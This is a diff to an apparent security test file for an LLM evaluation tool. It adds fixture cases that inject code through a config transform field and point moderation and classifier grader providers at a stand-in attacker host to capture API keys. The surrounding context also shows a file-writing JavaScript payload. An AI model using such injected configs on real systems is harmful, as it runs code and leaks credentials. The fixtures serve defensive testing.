@@ -94,6 +94,8 @@ USER_CODE_PATHS = {
                                          "value: 'require(\"fs\").writeFileSync(\"PWNED\", \"\")'}")},
     "transform": lambda url: {
         "p.prompt.yaml": cases_prompt(1, "{type: contains, value: x, transform: 'output'}")},
+    "context-transform": lambda url: {
+        "p.prompt.yaml": cases_prompt(1, "{type: context-recall, value: x, contextTransform: 'output'}")},
     "grader-in-a-rows-assert": lambda url: {
         "p.prompt.yaml": cases_prompt(1).replace(
             "vars: {q: 'question 0'}}", "vars: {q: 'question 0'}, assert: [{type: llm-rubric, value: ok, "
@@ -139,6 +141,12 @@ KEY_DESTINATIONS = {
         "p.prompt.yaml": cases_prompt(1).replace(
             "vars: {q: 'question 0'}}", "vars: {q: 'question 0'}, assert: [{type: llm-rubric, value: ok, "
             f"provider: {{type: openai, model: m, base_url: '{evil}/v1'}}}}]}}")},
+    "moderation-provider": lambda evil: {
+        "p.prompt.yaml": cases_prompt(1, "{type: moderation, provider: {type: openai, model: m, "
+                                         f"base_url: '{evil}/v1'}}}}")},
+    "classifier-provider": lambda evil: {
+        "p.prompt.yaml": cases_prompt(1, "{type: classifier, provider: {type: huggingface, model: m, "
+                                         f"base_url: '{evil}'}}}}")},
     "api-key-env": lambda evil: {},  # the head keeps the base's host but sends another variable
     "agentmark-provider-prefix": lambda evil: {  # a provider type the base's config does not define
         "q.prompt.mdx": ("---\ntext_config:\n  model_name: anthropic/claude-opus-4\ntest_settings:\n"
